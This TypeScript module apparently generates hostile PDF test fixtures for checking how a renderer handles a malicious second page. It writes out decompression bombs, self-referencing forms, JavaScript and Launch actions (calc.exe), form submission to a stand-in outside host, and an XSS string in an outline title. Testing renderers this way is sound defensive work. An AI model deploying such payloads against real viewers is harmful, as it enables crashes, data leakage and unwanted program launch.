import { deflateSync } from 'node:zlib';
import { CONTENT, flate, FONT, simplePdf, stream, writePdf, type Body } from './pdf-writer.ts';

/** What becomes of the second of three pages: drawn, a card in its place, or either. */
export type Fate = 'drawn' | 'damaged' | 'slow' | 'either';

export interface HostileReport {
  readonly name: string;
  readonly bytes: Buffer;
  /** Of a report that opens, its second page; else why it does not open. */
  readonly outcome: { readonly secondPage: Fate; readonly pages: number } | { readonly refused: 'damaged' | 'password' };
}

const OUTSIDE = 'http://outside.test/';
const JS = '<< /S /JavaScript /JS (app.launchURL\\("http://outside.test/"\\);) >>';
const MB = 1 << 20;

/** Reports that try to run, fetch, leave or never end. Two sound pages around one that means harm. */
export function hostileReports(): HostileReport[] {
  const opens = (name: string, bytes: Buffer, secondPage: Fate, pages = 3): HostileReport => ({ name, bytes, outcome: { secondPage, pages } });
  const refused = (name: string, bytes: Buffer, reason: 'damaged' | 'password' = 'damaged'): HostileReport => ({
    name,
    bytes,
    outcome: { refused: reason },
  });
  const link = (action: string): string => `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`;
  const form = (content: string, resources: string): Buffer =>
    stream(content, `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${resources} >>`);
  const picture = (dict: string, data: Body): Buffer => stream(data, `/Type /XObject /Subtype /Image ${dict}`);
  const laughs = Array.from({ length: 12 }, (_, level) => form('/X Do '.repeat(10), `/XObject << /X ${level + 9} 0 R >>`));
  const withX = { resources: '/XObject << /X 8 0 R >>', content: stream('/X Do') };
  return [
    opens('forms-within-forms-without-end', threePages({ ...withX, more: [...laughs, form('0 0 9 9 re f', '')] }), 'slow'),
    opens('form-that-draws-itself', threePages({ ...withX, more: [form('/X Do', '/XObject << /X 8 0 R >>')] }), 'either'),
    opens('content-of-three-hundred-megabytes', threePages({ content: stream(deflateSync(Buffer.alloc(300 * MB, 0x20)), '/Filter /FlateDecode') }), 'either'),
    opens('states-a-million-deep', threePages({ content: flate('q '.repeat(1_000_000)) }), 'either'),
    opens('picture-of-ten-thousand-million-pixels', threePages({ ...withX, more: [picture('/Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode', deflateSync('x'))] }), 'either'),
    opens('broken-jpeg-2000', threePages({ ...withX, more: [picture('/Width 9 /Height 9 /Filter /JPXDecode', Buffer.alloc(99, 7))] }), 'either'),
    opens('broken-jbig2', threePages({ ...withX, more: [picture('/Width 9 /Height 9 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode', Buffer.alloc(99, 7))] }), 'either'),
    opens('picture-from-elsewhere', threePages({ ...withX, more: [picture(`/Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 /F << /FS /URL /F (${OUTSIDE}) >>`, '')] }), 'either'),
    opens('pattern-of-tiny-steps', threePages({ resources: '/Pattern << /P 8 0 R >>', content: stream('/Pattern cs /P scn 0 0 595 842 re f'), more: [stream('0 0 1 1 re f', '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>')] }), 'either'),
    opens('page-that-is-missing', threePages({ page: 'null' }), 'damaged', 2),
    opens('page-without-sense', threePages({ page: '[1 2 3]' }), 'damaged', 2),
    opens('scripts-everywhere', threePages({ catalog: `/OpenAction ${JS} /AA << /WC ${JS} >> /Names << /JavaScript << /Names [(a) ${JS}] >> >>`, annots: [link(JS)], pageMore: `/AA << /O ${JS} /C ${JS} >>` }), 'drawn'),
    opens('address-on-opening', threePages({ catalog: `/OpenAction << /S /URI /URI (${OUTSIDE}) >>`, annots: [link(`<< /S /URI /URI (${OUTSIDE}) >>`)] }), 'drawn'),
    opens('program-and-form-to-send', threePages({ annots: [link('<< /S /Launch /F (calc.exe) >>'), link(`<< /S /SubmitForm /F (${OUTSIDE}) >>`), link(`<< /S /GoToR /F (${OUTSIDE}) /D [0 /Fit] >>`)] }), 'drawn'),
    opens('form-in-xml', threePages({ catalog: '/NeedsRendering true /AcroForm << /Fields [] /XFA 8 0 R >>', more: [stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><script>1</script></template></xdp:xdp>`)] }), 'drawn'),
    opens('attachment-and-film', threePages({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 8 0 R] >> >>', annots: ['<< /Type /Annot /Subtype /Movie /Rect [9 9 99 99] /Movie << /F (http://outside.test/a) >> >>'], more: ['<< /Type /Filespec /F (a.html) /EF << /F 9 0 R >> >>', stream('<script>1</script>', '/Type /EmbeddedFile')] }), 'drawn'),
    opens('five-thousand-links', threePages({ annots: Array.from({ length: 5000 }, () => '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /Dest [3 0 R /Fit] >>') }), 'drawn'),
    opens('parents-in-a-ring', threePages({ annots: ['<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [9 9 99 29] /Parent 8 0 R >>'], more: ['<< /T (b) /Parent 9 0 R >>', '<< /T (c) /Parent 8 0 R >>'] }), 'either'),
    opens('outline-in-a-ring', threePages({ catalog: '/Outlines 8 0 R', more: ['<< /First 9 0 R /Last 9 0 R >>', '<< /Title (<img src=x onerror=alert\\(1\\)>) /Next 9 0 R /First 9 0 R /Parent 8 0 R >>'] }), 'drawn'),
    refused('letter', Buffer.from('This is a letter.')),
    refused('noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(Array.from({ length: 5000 }, (_, at) => (at * 7919) % 251))])),
    refused('password', simplePdf({ more: [`<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`] }, { trailer: '/Encrypt 6 0 R /ID [(0123456789abcdef) (0123456789abcdef)]' }), 'password'),
    refused('no-page-tree', simplePdf({ pages: '7' })),
  ];
}

interface SecondPage {
  readonly catalog?: string;
  /** In place of the whole page. */
  readonly page?: string;
  readonly content?: Body;
  readonly resources?: string;
  readonly annots?: readonly string[];
  readonly pageMore?: string;
  /** From object 8 on. */
  readonly more?: readonly Body[];
}

/** Pages 3, 4 and 7; 5 is the content of the sound ones, 6 that of the second. */
function threePages({ catalog = '', page, content = stream(CONTENT), resources = '', annots = [], pageMore = '', more = [] }: SecondPage): Buffer {
  const leaf = (contents: number, extra: string): string =>
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${contents} 0 R /Resources << /Font << /F1 ${FONT} >> ${extra}`;
  const sound = leaf(5, '>> >>');
  return writePdf({
    objects: [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R 4 0 R 7 0 R] /Count 3 >>',
      sound,
      page ?? leaf(6, `${resources} >> /Annots [${annots.join(' ')}] ${pageMore} >>`),
      stream(CONTENT),
      content,
      sound,
      ...more,
    ],
  });
}
